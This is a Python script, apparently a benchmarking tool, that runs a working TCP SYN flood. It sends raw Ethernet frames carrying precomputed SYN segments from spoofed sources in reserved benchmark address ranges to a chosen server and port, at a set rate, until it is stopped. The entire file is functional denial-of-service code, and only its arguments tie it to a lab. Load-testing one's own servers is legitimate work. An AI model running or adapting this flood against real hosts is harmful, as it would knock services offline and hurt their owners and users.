#!/usr/bin/env python3
"""A SYN flood: SYNs from unused addresses at a given rate, until SIGTERM. Prints their number.

    flood.py INTERFACE SERVER_MAC SERVER_ADDRESS PORT RATE

Sources are of 198.18.0.0/15 and 2001:2::/48, which are reserved for benchmarks. The segments are written beforehand.
"""

import ipaddress
import json
import random
import signal
import socket
import struct
import sys
import time

SHAPES = 20_000  # different segments
BURST = 50
SYN = 0x02


def checksum(data):
    """RFC 1071."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, destination, source_port, port, sequence):
    """A TCP segment with SYN and the options that a kernel sends."""
    options = bytes.fromhex("020405b4 0402 080a 00000001 00000000 01 030307".replace(" ", ""))
    head = struct.pack(">HHIIBBHHH", source_port, port, sequence, 0, (20 + len(options)) // 4 << 4, SYN, 64240, 0, 0)
    segment = head + options
    if len(source) == 4:
        pseudo = source + destination + struct.pack(">HH", socket.IPPROTO_TCP, len(segment))
    else:
        pseudo = source + destination + struct.pack(">IHBB", len(segment), 0, 0, socket.IPPROTO_TCP)
    return segment[:16] + struct.pack(">H", checksum(pseudo + segment)) + segment[18:]


def packet(chance, destination, port):
    """An IP packet with such a segment from an unused address."""
    source_port, sequence = chance.randint(1024, 65535), chance.getrandbits(32)
    if len(destination) == 4:
        source = (0xC6120000 | chance.getrandbits(17)).to_bytes(4)
        segment = syn(source, destination, source_port, port, sequence)
        head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(segment), chance.getrandbits(16), 0x4000, 64,
                           socket.IPPROTO_TCP, 0) + source + destination
        return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + segment
    source = bytes.fromhex("200100020000") + chance.randbytes(10)
    segment = syn(source, destination, source_port, port, sequence)
    return struct.pack(">IHBB", 6 << 28, len(segment), socket.IPPROTO_TCP, 64) + source + destination + segment


def main():
    interface, server_mac, address, port, rate = sys.argv[1:]
    destination = ipaddress.ip_address(address).packed
    kind = 0x0800 if len(destination) == 4 else 0x86DD
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    ethernet = bytes.fromhex(server_mac.replace(":", "")) + out.getsockname()[4] + struct.pack(">H", kind)
    chance = random.Random(7)
    frames = [ethernet + packet(chance, destination, int(port)) for _ in range(SHAPES)]
    running = True

    def stop(*_):
        nonlocal running
        running = False

    signal.signal(signal.SIGTERM, stop)
    print("ready", flush=True)
    sent = full = 0
    pause = BURST / float(rate)
    due = time.monotonic()
    while running:
        for _ in range(BURST):
            try:
                out.send(frames[(sent + full) % SHAPES])
                sent += 1
            except OSError:  # the ring on the other side is full
                full += 1
        due += pause
        left = due - time.monotonic()
        if left > 0:
            time.sleep(left)
        elif left < -1:
            due = time.monotonic()  # the machine is at its limit: the flood does not catch up
    print(json.dumps({"sent": sent, "full": full}))


if __name__ == "__main__":
    main()
